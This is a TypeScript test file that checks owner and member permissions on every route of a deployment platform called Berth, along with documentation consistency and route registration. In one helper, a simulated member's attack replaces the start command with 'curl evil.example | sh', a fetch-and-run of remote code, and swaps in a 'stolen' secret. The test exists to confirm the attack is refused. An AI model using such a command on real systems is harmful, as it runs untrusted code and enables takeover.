/* eslint-disable @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-unsafe-assignment --
   HTTP bodies are untyped JSON; the assertions are what check their shape. */
// Issue 24, item 3: what a team's owners and members may do. ROLE_TABLE below has a row for every
// authenticated route (a route without one fails here), each saying the role the route declares; every
// row is called by a member and by an owner of the same team over a real socket: a member gets 403 on
// owner rows and the store is unchanged, and not 403 on member rows; an owner never gets 403. The table
// in docs/security.md ("Roles: what owners and members may do") must say the same, and a route that
// declares no role is refused at registration.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import Fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerOwnershipCheck } from '../../src/http/plugins/ownership.js';
import { registerProtocol } from '../../src/http/plugins/protocol.js';
import type { OwnershipChecks } from '../../src/services/ownership.js';
import type { CreatedUser } from '../../src/services/identity.js';
import { authHeaders, createTestApp, type TestApp } from '../helpers/app.js';
import type { SocketResponse } from '../helpers/http.js';
import { DIALECTS } from '../helpers/store.js';
import { apply, fullDocument, yaml } from '../infrastructure/helpers.js';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');

type Role = 'owner' | 'member';
type Who = 'owner' | 'member';

/** What the rows need: the team's resources, and resources that owners' calls may delete. */
interface Fixture {
  appId: number;
  doomedAppId: number;
  db: string;
  doomedDb: [string, string];
  ownerId: number;
  memberId: number;
}

interface Call {
  /** The path with its parameters; default: the route's, filled from the fixture (fill()). */
  path?: string;
  payload?: unknown;
  headers?: Record<string, string>;
}

interface RoleRow {
  method: string;
  /** The route as registered. */
  url: string;
  /** The role the route declares (config.role). */
  role: Role;
  /** A variant of the route (several rows may test one route). */
  variant?: string;
  /** The role this call needs when the service decides more than the route (a member removing another). */
  needs?: Role;
  /** Each caller's request: a member's is the real thing; an owner's avoids slow or lasting work. */
  member?: (f: Fixture) => Call;
  owner?: (f: Fixture) => Call;
}

const bad = { payload: { not_a_field: true } };
const DATE = '2030-01-31T12:00:00Z';
const YAML = { 'content-type': 'application/yaml' };

/** An owner's call that must not delete what other rows use. */
const doomedApp = (f: Fixture): Call => ({ path: `/api/v1/applications/${f.doomedAppId}` });

/**
 * Every authenticated route of Berth, with the role it declares. A new route fails "every route has a
 * row" until it has one here (and in docs/security.md), so every route is called as both roles.
 */
const ROLE_TABLE: RoleRow[] = [
  // The caller's own account: no team.
  ...['/api/v1/ping', '/api/v1/user', '/api/v1/teams', '/api/v1/auth/session', '/api/v1/user/sessions'].map(
    (url) => ({ method: 'GET', url, role: 'member' as const }),
  ),
  { method: 'GET', url: '/api/v1/teams/:team', role: 'member' },
  ...['tokens', 'tools-keys', 'database-credentials'].flatMap((kind) => [
    { method: 'GET', url: `/api/v1/user/${kind}`, role: 'member' as const },
    { method: 'POST', url: `/api/v1/user/${kind}`, role: 'member' as const, member: () => ({ payload: {} }) },
    { method: 'DELETE', url: `/api/v1/user/${kind}/:id`, role: 'member' as const },
  ]),
  { method: 'POST', url: '/api/v1/auth/sign-out', role: 'member' },
  { method: 'DELETE', url: '/api/v1/user/sessions/:id', role: 'member' },
  { method: 'PUT', url: '/api/v1/user/password', role: 'member', member: () => ({ payload: {} }) },
  {
    method: 'POST',
    url: '/api/v1/teams',
    role: 'member',
    member: () => ({ payload: { name: 'member-made' } }),
    owner: () => ({ payload: { name: 'owner-made' } }),
  },

  // Team management.
  {
    method: 'POST',
    url: '/api/v1/teams/:team/members',
    role: 'owner',
    member: () => ({ payload: { email: 'friend@example.com', role: 'owner' } }),
    owner: () => bad,
  },
  {
    method: 'PATCH',
    url: '/api/v1/teams/:team/members/:user',
    role: 'owner',
    // A member making themselves owner.
    member: (f) => ({ path: `/api/v1/teams/acme/members/${f.memberId}`, payload: { role: 'owner' } }),
    owner: (f) => ({ path: `/api/v1/teams/acme/members/${f.memberId}`, payload: { role: 'king' } }),
  },
  {
    method: 'DELETE',
    url: '/api/v1/teams/:team/members/:user',
    role: 'member',
    variant: 'another member',
    needs: 'owner',
    member: (f) => ({ path: `/api/v1/teams/acme/members/${f.ownerId}` }),
    owner: () => ({ path: '/api/v1/teams/acme/members/999999' }),
  },
  {
    method: 'DELETE',
    url: '/api/v1/teams/:team/members/:user',
    role: 'member',
    variant: 'yourself',
    member: (f) => ({ path: `/api/v1/teams/beta/members/${f.memberId}` }),
    owner: (f) => ({ path: `/api/v1/teams/beta/members/${f.ownerId}` }),
  },
  {
    method: 'POST',
    url: '/api/v1/teams/:team/leave',
    role: 'member',
    member: () => ({ path: '/api/v1/teams/gamma/leave' }),
    owner: () => ({ path: '/api/v1/teams/gamma/leave' }),
  },

  // Apply and export.
  {
    method: 'POST',
    url: '/api/v1/infrastructure/apply',
    role: 'owner',
    member: () => ({ headers: YAML, payload: yaml(changedDocument()) }),
    owner: () => ({ headers: YAML, payload: yaml(fullDocument('acme')) }),
  },
  {
    method: 'POST',
    url: '/api/v1/infrastructure/apply',
    role: 'owner',
    variant: 'dry run',
    member: () => ({
      path: '/api/v1/infrastructure/apply?dry_run=true',
      headers: YAML,
      payload: yaml(fullDocument('acme')),
    }),
    owner: () => ({
      path: '/api/v1/infrastructure/apply?dry_run=true',
      headers: YAML,
      payload: yaml(changedDocument()),
    }),
  },
  { method: 'GET', url: '/api/v1/teams/:team/export-yaml', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/export-yaml', role: 'member' },

  // Applications: reading.
  { method: 'GET', url: '/api/v1/applications', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/status', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/instances', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/deployments', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/deployments/:deployment', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/deployments/:deployment/logs', role: 'member' },
  {
    method: 'GET',
    url: '/api/v1/applications/:id/deployments/:deployment/logs',
    role: 'member',
    variant: 'follow',
    member: (f) => ({ path: `/api/v1/applications/${f.appId}/deployments/999999/logs?follow=true` }),
  },
  { method: 'GET', url: '/api/v1/applications/:id/logs', role: 'member' },
  {
    method: 'GET',
    url: '/api/v1/applications/:id/logs',
    role: 'member',
    variant: 'follow',
    // A stream stays open: a bad `tail` beside follow shows the role check passed without one.
    member: (f) => ({ path: `/api/v1/applications/${f.appId}/logs?follow=true&tail=0` }),
  },
  { method: 'GET', url: '/api/v1/applications/:id/source/download', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/scheduled-deletion', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/services', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/secrets/injected', role: 'member' },
  { method: 'GET', url: '/api/v1/applications/:id/services/:service/logs', role: 'member' },

  // Applications: changing, running commands, values.
  {
    method: 'POST',
    url: '/api/v1/applications/:id/exec',
    role: 'owner',
    member: () => ({ payload: { command: 'env' } }),
    owner: () => ({ payload: {} }),
  },
  { method: 'GET', url: '/api/v1/applications/:id/command-history', role: 'owner' },
  {
    method: 'POST',
    url: '/api/v1/applications/:id/deploy',
    role: 'owner',
    member: () => ({ payload: {} }),
    owner: () => bad,
  },
  {
    method: 'POST',
    url: '/api/v1/applications/:id/rollback',
    role: 'owner',
    member: () => ({ payload: {} }),
    owner: () => bad,
  },
  { method: 'POST', url: '/api/v1/applications/:id/suspend', role: 'owner' },
  { method: 'POST', url: '/api/v1/applications/:id/resume', role: 'owner' },
  {
    method: 'POST',
    url: '/api/v1/applications/:id/source',
    role: 'owner',
    // No body: a streamed one is walked by the input guard before this check (another item of issue 24).
    owner: (f) => ({ path: `/api/v1/applications/${f.appId}/source?deploy=maybe` }),
  },
  { method: 'DELETE', url: '/api/v1/applications/:id', role: 'owner', owner: doomedApp },
  ...(['PATCH', 'PUT'] as const).map((method) => ({
    method,
    url: '/api/v1/applications/:id',
    role: 'owner' as const,
    member: () => ({ payload: { scheduled_deletion_at: DATE } }),
    owner: () => bad,
  })),
  {
    method: 'POST',
    url: '/api/v1/applications/:id/scheduled-deletion/reschedule',
    role: 'owner',
    member: () => ({ payload: { scheduled_deletion_at: DATE } }),
    owner: () => bad,
  },
  { method: 'POST', url: '/api/v1/applications/:id/scheduled-deletion/cancel', role: 'owner' },
  ...(
    [
      ['domains', 'shop.example.com'],
      ['secrets', 'APP_KEY'],
      ['volumes', 'storage'],
    ] as const
  ).map(([segment, item]) => ({
    method: 'DELETE',
    url: `/api/v1/applications/:id/${segment}/:item`,
    role: 'owner' as const,
    member: (f: Fixture) => ({ path: `/api/v1/applications/${f.appId}/${segment}/${item}` }),
    owner: (f: Fixture) => ({ path: `/api/v1/applications/${f.appId}/${segment}/nope` }),
  })),
  // Push to deploy: the secret is a credential of the application.
  { method: 'GET', url: '/api/v1/applications/:id/git-webhook', role: 'owner' },
  { method: 'POST', url: '/api/v1/applications/:id/git-webhook/rotate', role: 'owner' },
  { method: 'GET', url: '/api/v1/applications/:id/services/:service/environment', role: 'owner' },
  { method: 'GET', url: '/api/v1/applications/:id/services/:service/connection-formats', role: 'owner' },
  { method: 'POST', url: '/api/v1/applications/:id/services/:service/restart', role: 'owner' },

  // The team's managed databases and object storage.
  { method: 'GET', url: '/api/v1/teams/:team/managed-databases', role: 'member' },
  { method: 'GET', url: '/api/v1/teams/:team/object-storage', role: 'member' },
  { method: 'GET', url: '/api/v1/teams/:team/notifications', role: 'member' },
  // Team webhooks: where the team's events go, owners only.
  {
    method: 'POST',
    url: '/api/v1/teams/:team/webhooks',
    role: 'owner',
    member: () => ({ payload: { url: 'https://hooks.example.com/berth', events: ['*'] } }),
    owner: () => bad,
  },
  { method: 'GET', url: '/api/v1/teams/:team/webhooks', role: 'owner' },
  { method: 'GET', url: '/api/v1/teams/:team/webhooks/:id', role: 'owner' },
  { method: 'DELETE', url: '/api/v1/teams/:team/webhooks/:id', role: 'owner' },
  { method: 'GET', url: '/api/v1/teams/:team/webhooks/:id/deliveries', role: 'owner' },
  { method: 'GET', url: '/api/v1/teams/:team/audit-log', role: 'owner' },
  { method: 'GET', url: '/api/v1/teams/:team/object-storage/:storage', role: 'member' },
  {
    method: 'DELETE',
    url: '/api/v1/teams/:team/object-storage/:storage',
    role: 'owner',
    owner: () => ({ path: '/api/v1/teams/acme/object-storage/doomed-files' }),
  },
  { method: 'POST', url: '/api/v1/teams/:team/object-storage/:storage/apply-pending-change', role: 'owner' },
  {
    method: 'PUT',
    url: '/api/v1/teams/:team/object-storage/:storage/buckets/:bucket/acl',
    role: 'owner',
    member: () => ({
      path: '/api/v1/teams/acme/object-storage/files/buckets/shop-uploads/acl',
      payload: { acl: 'public-read' },
    }),
    owner: () => ({
      path: '/api/v1/teams/acme/object-storage/files/buckets/shop-uploads/acl',
      payload: { acl: 'private' },
    }),
  },
  { method: 'GET', url: '/api/v1/managed-databases/:uuid', role: 'member' },
  { method: 'POST', url: '/api/v1/managed-databases/:uuid/apply-pending-change', role: 'owner' },
  {
    method: 'DELETE',
    url: '/api/v1/managed-databases/:uuid',
    role: 'owner',
    owner: (f) => ({ path: `/api/v1/managed-databases/${f.doomedDb[1]}` }),
  },

  // /1.3 (and the same operations under /api/v1/managed-databases).
  { method: 'GET', url: '/1.3/database', role: 'member' },
  { method: 'GET', url: '/1.3/database/:uuid', role: 'member' },
  {
    method: 'DELETE',
    url: '/1.3/database/:uuid',
    role: 'owner',
    owner: (f) => ({ path: `/1.3/database/${f.doomedDb[0]}` }),
  },
  {
    method: 'PATCH',
    url: '/1.3/database/:uuid',
    role: 'owner',
    member: () => ({ payload: { powered: false } }),
    owner: () => bad,
  },
  ...['/1.3/database', '/api/v1/managed-databases'].flatMap((prefix): RoleRow[] => [
    {
      method: 'POST',
      url: `${prefix}/:uuid/tasks`,
      role: 'owner',
      member: () => ({ payload: { operation: 'upgrade_check', upgrade_check: { target_version: '16' } } }),
      owner: () => bad,
    },
    { method: 'GET', url: `${prefix}/:uuid/tasks/:id`, role: 'member' },
    {
      method: 'POST',
      url: `${prefix}/:uuid/migration`,
      role: 'owner',
      member: () => ({ payload: { source_service_uri: 'postgres://u:p@127.0.0.1:1/db' } }),
      owner: () => bad,
    },
    { method: 'DELETE', url: `${prefix}/:uuid/migration`, role: 'owner' },
    { method: 'GET', url: `${prefix}/:uuid/migration-status`, role: 'member' },
    {
      method: 'POST',
      url: `${prefix}/:uuid/upgrade`,
      role: 'owner',
      member: () => ({ payload: { target_version: '16' } }),
      owner: () => bad,
    },
    { method: 'POST', url: `${prefix}/:uuid/maintenance`, role: 'owner' },
    {
      method: 'POST',
      url: `${prefix}/:uuid/clone`,
      role: 'owner',
      member: () => ({ payload: {} }),
      owner: () => bad,
    },
  ]),

  // Tools: the caller's own credits. An empty body is refused before any engine starts.
  ...['/api/v1/tools', '/api/v1/user/tools'].flatMap((prefix): RoleRow[] => [
    ...['health', 'balance', 'usage'].map((name) => ({
      method: 'GET',
      url: `${prefix}/${name}`,
      role: 'member' as const,
    })),
    ...[
      'pdf/convert/url',
      'pdf/convert/html',
      'pdf/convert/markdown',
      'pdf/convert/office',
      'pdf/merge',
      'screenshot/url',
      'screenshot/html',
    ].map((name) => ({
      method: 'POST',
      url: `${prefix}/${name}`,
      role: 'member' as const,
      member: () => ({ payload: {} }),
    })),
  ]),
];

/** The document applied, with a changed start command and secret (what a member's apply tried). */
function changedDocument(): Record<string, unknown> {
  const doc = fullDocument('acme') as {
    spec: { application: { commands: { start: string } }; secrets: unknown };
  };
  doc.spec.application.commands.start = 'sh -c "curl evil.example | sh"';
  doc.spec.secrets = [{ key: 'APP_KEY', value: 'stolen' }];
  return doc;
}

/** The route's path with its parameters from the fixture. */
function fill(url: string, f: Fixture): string {
  const values: Record<string, string> = {
    team: 'acme',
    uuid: f.db,
    storage: 'files',
    service: 'worker',
    deployment: '999999',
    user: '999999',
  };
  const id = url.startsWith('/api/v1/applications/')
    ? String(f.appId)
    : url.includes('/tasks/')
      ? 'nope'
      : '999999';
  return url.replace(/:([a-z]+)/g, (_m, name: string) => (name === 'id' ? id : (values[name] ?? name)));
}

const rowName = (row: RoleRow) => `${row.method} ${row.url}${row.variant ? ` (${row.variant})` : ''}`;

/** Tables an owner-only call could change, read whole (a member's refused calls must leave them as they were). */
const GUARDED_TABLES = [
  'applications',
  'domains',
  'secrets',
  'volumes',
  'services',
  'container_services',
  'deployments',
  'command_history',
  'managed_databases',
  'managed_database_tasks',
  'managed_database_migrations',
  'object_storages',
  'jobs',
  'team_revisions',
  'webhooks',
] as const;

describe.each(DIALECTS)('roles: what owners and members may do (%s)', (dialect) => {
  let t: TestApp;
  let member: CreatedUser;
  let f: Fixture;

  const headersOf = (who: Who, url: string): Record<string, string> => {
    const auth = who === 'owner' ? t.auth : authHeaders(member);
    if (url.startsWith('/1.3')) return auth.dbApi;
    if (url.startsWith('/api/v1/tools')) return auth.tools;
    return auth.platform;
  };

  async function call(row: RoleRow, who: Who) {
    // On a member row an owner makes the member's call unless the row says otherwise.
    const make =
      who === 'owner' ? (row.owner ?? (row.role === 'member' ? row.member : undefined)) : row.member;
    const own = make?.(f) ?? {};
    const url = own.path ?? fill(row.url, f);
    return t.request({
      method: row.method,
      url,
      headers: { ...headersOf(who, row.url), ...own.headers },
      ...(own.payload !== undefined ? { payload: own.payload } : {}),
    });
  }

  async function guardedState() {
    const out: Record<string, unknown[]> = {};
    for (const table of GUARDED_TABLES) out[table] = await t.ctx.db.selectFrom(table).selectAll().execute();
    out.memberships = await t.ctx.db
      .selectFrom('memberships')
      .selectAll()
      .where('team_id', '=', t.user.team_id)
      .orderBy('user_id')
      .execute();
    for (const rows of Object.values(out))
      rows.sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
    return out;
  }

  beforeAll(async () => {
    t = await createTestApp(dialect);
    member = await t.ctx.identity.createUser({ email: 'member@example.com', team: 'acme', role: 'member' });
    for (const team of ['beta', 'gamma']) {
      await t.ctx.identity.createUser({ email: 'owner@example.com', team });
      await t.ctx.identity.createUser({ email: 'member@example.com', team, role: 'member' });
    }
    const main = await apply(t, fullDocument('acme'));
    expect(main.statusCode, main.body).toBe(200);
    const doomed = await apply(t, {
      apiVersion: 'v1',
      kind: 'Infrastructure',
      metadata: { name: 'doomed', team: 'acme' },
      spec: {
        application: { name: 'doomed', type: 'nodejs' },
        managed_databases: ['doomed-a', 'doomed-b'].map((name) => ({
          name,
          type: 'pg',
          plan: '1x1xCPU-2GB-25GB',
          zone: 'de-fra1',
        })),
        object_storage: [{ name: 'doomed-files', zone: 'europe-1', buckets: ['doomed-uploads'] }],
      },
    });
    expect(doomed.statusCode, doomed.body).toBe(200);
    const list = await t.request({ url: '/1.3/database', headers: t.auth.dbApi });
    const databases = list.json<Array<{ uuid: string; name: string }>>();
    const uuid = (name: string) => databases.find((d) => d.name === name)?.uuid ?? '';
    f = {
      appId: main.json().application_id,
      doomedAppId: doomed.json().application_id,
      db: uuid('main-db'),
      doomedDb: [uuid('doomed-a'), uuid('doomed-b')],
      ownerId: t.user.user_id,
      memberId: member.user_id,
    };
    expect(Object.values(f).flat().every(Boolean), JSON.stringify(f)).toBe(true);
  }, 60_000);
  afterAll(() => t.close());

  it('has a row for every authenticated route, with the role the route declares', () => {
    const routes = t.app.routeTable.filter((r) => r.auth !== 'none' && r.method !== 'HEAD');
    const missing = routes
      .filter((r) => !ROLE_TABLE.some((row) => row.method === r.method && row.url === r.url))
      .map((r) => `${r.method} ${r.url}`);
    expect(missing, 'routes without a row in ROLE_TABLE').toEqual([]);
    const declared = new Map(routes.map((r) => [`${r.method} ${r.url}`, r.role]));
    const wrong = ROLE_TABLE.filter((row) => declared.get(`${row.method} ${row.url}`) !== row.role).map(
      (row) =>
        `${rowName(row)}: table ${row.role}, route ${String(declared.get(`${row.method} ${row.url}`))}`,
    );
    expect(wrong, 'rows whose role differs from the route (or that name no route)').toEqual([]);
  });

  it("refuses a member every owner row with 403 naming the owner role, and changes nothing of the team's", async () => {
    const before = await guardedState();
    const answers: string[] = [];
    const expected: string[] = [];
    const refusals: Array<[RoleRow, SocketResponse]> = [];
    for (const row of ROLE_TABLE) {
      if ((row.needs ?? row.role) !== 'owner') continue;
      const res = await call(row, 'member');
      answers.push(`${rowName(row)} → ${res.statusCode}`);
      expected.push(`${rowName(row)} → 403`);
      refusals.push([row, res]);
    }
    expect(answers).toEqual(expected);
    for (const [row, res] of refusals) {
      const message = row.url.startsWith('/1.3') ? res.json().error_message : res.json().message;
      expect(message, rowName(row)).toMatch(/needs the owner role in team acme; your role is member\.$/);
      if (row.url.startsWith('/1.3')) expect(res.json().error_code, rowName(row)).toBe('ACCOUNT_FORBIDDEN');
      // exec would have printed the environment; nothing of it is in the refusal.
      expect(res.body, rowName(row)).not.toContain('base64:abc');
    }
    expect(await guardedState()).toEqual(before);
  });

  it('lets a member call every member row (not 403, nor 401 or 5xx)', async () => {
    const answers: string[] = [];
    for (const row of ROLE_TABLE) {
      if ((row.needs ?? row.role) !== 'member') continue;
      const res = await call(row, 'member');
      if (res.statusCode === 403 || res.statusCode === 401 || res.statusCode >= 500)
        answers.push(`${rowName(row)} → ${res.statusCode} ${res.body}`);
    }
    expect(answers).toEqual([]);
  });

  it('lets an owner call every row (not 403, nor 401 or 5xx)', async () => {
    const answers: string[] = [];
    for (const row of ROLE_TABLE) {
      const res = await call(row, 'owner');
      if (res.statusCode === 403 || res.statusCode === 401 || res.statusCode >= 500)
        answers.push(`${rowName(row)} → ${res.statusCode} ${res.body}`);
    }
    expect(answers).toEqual([]);
    // The owner's deletions went through: what the member could not delete, the owner could.
    const gone = await t.request({
      url: `/api/v1/applications/${f.doomedAppId}/status`,
      headers: t.auth.platform,
    });
    expect(gone.json().data.status).toBe('destroying');
  });

  it('documents every route in docs/security.md with the same role', () => {
    const text = fs.readFileSync(path.join(ROOT, 'docs/security.md'), 'utf8');
    const start = text.indexOf('## Roles: what owners and members may do');
    expect(start).toBeGreaterThan(-1);
    const end = text.indexOf('\n## ', start + 1);
    const section = text.slice(start, end === -1 ? undefined : end);
    const documented: Array<{ method: string; path: string; member: boolean }> = [];
    for (const line of section.split('\n')) {
      const cells = line.split('|').map((c) => c.trim());
      if (cells.length < 5 || !cells[1]) continue;
      for (const [, method, route] of cells[1].matchAll(/`(GET|POST|PUT|PATCH|DELETE) ([^`]+)`/g))
        documented.push({ method: method!, path: route!, member: cells[3]!.startsWith('yes') });
    }
    const asDocumented = (url: string) => url.replace(/:([a-z]+)/g, '{$1}');
    const problems: string[] = [];
    for (const r of t.app.routeTable.filter((x) => x.auth !== 'none' && x.method !== 'HEAD')) {
      const doc = documented.find(
        (d) =>
          d.method === r.method &&
          (d.path === asDocumented(r.url) ||
            (d.path.endsWith('/*') && r.url.startsWith(d.path.slice(0, -1)))),
      );
      if (!doc) problems.push(`${r.method} ${r.url}: not in the table`);
      else if (doc.member !== (r.role === 'member'))
        problems.push(`${r.method} ${r.url}: documented ${doc.member ? 'member' : 'owner'}, route ${r.role}`);
    }
    expect(problems).toEqual([]);
  });
});

describe('route registration', () => {
  async function register(config: Record<string, unknown>, url = '/api/v1/applications/:id/new') {
    const app = Fastify();
    registerProtocol(app, { maintenance: { isOn: () => Promise.resolve(false) } });
    registerOwnershipCheck(app, { ownership: {} as OwnershipChecks });
    try {
      app.post(url, { config }, () => ({}));
      await app.ready();
    } finally {
      await app.close();
    }
  }

  it('refuses an authenticated route that declares no role', async () => {
    await expect(register({ auth: 'api_token' })).rejects.toThrow(/does not declare the role it needs/);
    await expect(register({ auth: 'db_api' }, '/1.3/database/:uuid/new')).rejects.toThrow(/does not declare/);
  });

  it('refuses an owner route whose path names no team, unless its service reads the team from the body', async () => {
    await expect(register({ auth: 'api_token', role: 'owner' }, '/api/v1/things')).rejects.toThrow(
      /its path names no team/,
    );
    await expect(
      register({ auth: 'api_token', role: 'owner', teamIn: 'body' }, '/api/v1/things'),
    ).resolves.toBeUndefined();
    await expect(register({ auth: 'api_token', role: 'member' })).resolves.toBeUndefined();
    await expect(register({ auth: 'none' }, '/open')).resolves.toBeUndefined();
  });
});
